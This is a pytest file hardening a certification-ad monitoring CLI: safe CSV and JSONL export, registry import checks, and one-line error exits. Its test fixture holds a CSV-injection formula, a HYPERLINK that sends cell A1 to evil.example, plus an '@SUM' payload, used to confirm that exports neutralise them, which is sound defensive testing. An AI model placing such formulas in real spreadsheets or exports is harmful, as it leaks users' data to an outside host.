"""Hostile and broken input at the command line: one line and the right exit code, nothing
lost, nothing run (issue "Hardening"). Store-facing tests run on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import Engine, insert

from certwatch.cli import main
from certwatch.services.registry import import_registry_file
from dashboard.widgets import csv_bytes
from facts.spreadsheet import read_cell, safe_cell
from store.config import DATA_DIR
from store.db import make_engine
from store.models import Listing

ROOT = Path(__file__).resolve().parents[1]
BUNDLED = DATA_DIR / "registry.csv"
SEEN = datetime(2026, 11, 20, 8, 0, tzinfo=UTC)
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取证书")'


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def add_listings(engine: Engine, count: int, title: str = "人工智能训练师三级") -> None:
    rows = [{"listing_key": f"k{i:06d}", "canonical_url": f"http://ads.example/{i}.html",
             "url": f"http://ads.example/{i}.html", "title": title, "provider": "+86 某某教育",
             "levels": [3], "fee_min": -5.0 if i == 0 else 2980.0, "fee_max": 2980.0,
             "first_seen": SEEN, "last_seen": SEEN, "risk_score": 0} for i in range(count)]
    with engine.begin() as connection:
        connection.execute(insert(Listing), rows)


# --- formula-safe CSV, JSONL line separators ----------------------------------------------


def test_every_formula_start_is_defused_and_numbers_stay_numbers() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
        assert read_cell(safe_cell(start + "x")) == start + "x"
    assert safe_cell(-5.0) == -5.0 and safe_cell(3) == 3 and safe_cell(None) == ""
    assert safe_cell("学费2980元") == "学费2980元"


def test_cli_csv_export_runs_no_formula(capsys: pytest.CaptureFixture[str], db_url: str) -> None:
    engine = make_engine(db_url)
    add_listings(engine, 2, title=HOSTILE_TITLE)
    code, out, _ = run(capsys, "--db", db_url, "export", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff"))))
    assert len(rows) == 2
    for row in rows:
        assert row["title"] == "'" + HOSTILE_TITLE
        assert row["provider"] == "'+86 某某教育"
    assert sorted(float(r["fee_min"]) for r in rows) == [-5.0, 2980.0]  # a number, not '-5.0
    assert "'-5" not in out


def test_dashboard_downloads_use_the_same_safe_writer() -> None:
    frame = pd.DataFrame({"title": [HOSTILE_TITLE, "@SUM(A1:A9)"], "fee": [2980.0, -1.0]})
    text = csv_bytes(frame).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1] == ["'" + HOSTILE_TITLE, "2980.0"]
    assert rows[2] == ["'@SUM(A1:A9)", "-1.0"]


def test_jsonl_escapes_line_and_paragraph_separators(
    capsys: pytest.CaptureFixture[str], db_url: str
) -> None:
    engine = make_engine(db_url)
    add_listings(engine, 3, title="人工智能训练师\u2028三级\u2029报名")
    code, out, _ = run(capsys, "--db", db_url, "export")
    assert code == 0
    assert "\u2028" not in out and "\u2029" not in out
    lines = out.splitlines()  # str.splitlines splits on U+2028 too: one record a line
    assert len(lines) == 3
    assert json.loads(lines[0])["title"] == "人工智能训练师\u2028三级\u2029报名"


def test_export_into_a_pipe_closed_early_is_quiet(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'many.db'}"
    add_listings(make_engine(url), 3000)
    env = {**os.environ, "CERTWATCH_RUNTIME": str(tmp_path)}
    export = subprocess.Popen([sys.executable, "-m", "certwatch", "--db", url, "export"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=ROOT)
    assert export.stdout is not None and export.stderr is not None
    first = export.stdout.readline()
    export.stdout.close()  # what `| head -1` does
    stderr = export.stderr.read().decode()
    assert export.wait(timeout=60) == 0
    assert json.loads(first)["listing_id"]
    assert stderr == ""


# --- the registry ---------------------------------------------------------------------------


def test_a_header_only_registry_is_refused_and_recognition_kept(
    capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
) -> None:
    assert run(capsys, "--db", db_url, "registry", "import", str(BUNDLED))[0] == 0
    header_only = tmp_path / "registry.csv"
    header_only.write_text(BUNDLED.read_text("utf-8").splitlines()[0] + "\n", "utf-8")
    code, out, err = run(capsys, "--db", db_url, "registry", "import", str(header_only))
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1
    assert "0 agencies" in err and "has 48" in err and "--allow-shrink" in err
    half = tmp_path / "half.csv"
    half.write_text("\n".join(BUNDLED.read_text("utf-8").splitlines()[:20]) + "\n", "utf-8")
    code, _, err = run(capsys, "--db", db_url, "registry", "import", str(half))
    assert code == 2 and "19 agencies" in err and "more than half" in err
    code, out, _ = run(capsys, "--db", db_url, "registry", "import", str(half), "--allow-shrink")
    assert code == 0 and "19 agencies" in out and "version 2" in out
    code, out, _ = run(capsys, "--db", db_url, "registry", "list")
    assert [line.split()[0] for line in out.splitlines()[1:]] == ["2", "1"]


def test_a_huge_registry_cell_and_a_directory_are_one_line_exit_2(
    capsys: pytest.CaptureFixture[str], sqlite_url: str, tmp_path: Path
) -> None:
    big = tmp_path / "big.csv"
    header = BUNDLED.read_text("utf-8").splitlines()[0]
    big.write_text(header + "\nA1," + "x" * 10_000_000 + ",,,evaluation_org,*,1,全国,,,active,\n",
                   "utf-8")
    code, _, err = run(capsys, "--db", sqlite_url, "registry", "import", str(big))
    assert code == 2 and err.count("\n") == 1
    assert "big.csv:2" in err and "longer than" in err
    code, _, err = run(capsys, "--db", sqlite_url, "registry", "import", str(tmp_path))
    assert code == 2 and err.strip() == f"certwatch: {tmp_path}: not a file"


# --- one line, the right exit code ---------------------------------------------------------


def test_a_directory_as_sources_is_exit_2(
    capsys: pytest.CaptureFixture[str], sqlite_url: str, tmp_path: Path
) -> None:
    code, _, err = run(capsys, "--db", sqlite_url, "crawl", "--sources", str(tmp_path))
    assert code == 2 and err.strip() == (
        f"certwatch: {tmp_path}: is a directory, expected a sources file (TOML)")


def test_an_unknown_url_scheme_is_exit_2(
    capsys: pytest.CaptureFixture[str], sqlite_url: str
) -> None:
    code, _, err = run(capsys, "--db", sqlite_url, "crawl", "gopher://ads.example/")
    assert code == 2 and err.strip() == "certwatch: gopher://ads.example/: not an http(s) URL"


def test_a_typo_in_the_database_directory_creates_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    typo = tmp_path / "dta" / "certwatch.db"
    code, _, err = run(capsys, "--db", f"sqlite:///{typo}", "export")
    assert code == 2 and err.count("\n") == 1
    assert f"the directory {typo.parent} does not exist" in err
    assert not typo.parent.exists()


def test_a_read_only_database_is_exit_2_and_keeps_what_it_holds(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "certwatch.db"
    import_registry_file(make_engine(f"sqlite:///{path}"), BUNDLED)
    read_only = f"sqlite:///file:{path}?mode=ro&uri=true"
    code, _, err = run(capsys, "--db", read_only, "registry", "import", str(BUNDLED))
    assert code == 2 and err.count("\n") == 1 and "read-only" in err
    assert "Traceback" not in err
    code, out, _ = run(capsys, "--db", read_only, "registry", "list")
    assert code == 0 and len(out.splitlines()) == 2  # the one version is still there


def test_an_unexpected_failure_is_one_line_naming_the_log(
    capsys: pytest.CaptureFixture[str], sqlite_url: str, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CERTWATCH_RUNTIME", str(tmp_path))
    broken = tmp_path / "broken.csv"
    broken.write_bytes(b"\xff\xfe not a registry")  # UTF-16 BOM: a bad file, exit 2
    code, _, err = run(capsys, "--db", sqlite_url, "registry", "import", str(broken))
    assert code == 2 and "not UTF-8" in err

    def explode(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("disk on fire\nsecond line")

    monkeypatch.setattr("certwatch.services.export.export_listings", explode)
    code, _, err = run(capsys, "--db", sqlite_url, "export")
    log = tmp_path / "logs" / f"certwatch-{datetime.now(UTC):%Y-%m-%d}.log"
    assert code == 1
    assert err.strip() == f"certwatch: export failed: RuntimeError: disk on fire (details in {log})"
    assert "Traceback" in log.read_text("utf-8") and "disk on fire" in log.read_text("utf-8")
    code, _, err = run(capsys, "-v", "--db", sqlite_url, "export")
    assert code == 1 and "Traceback" in err
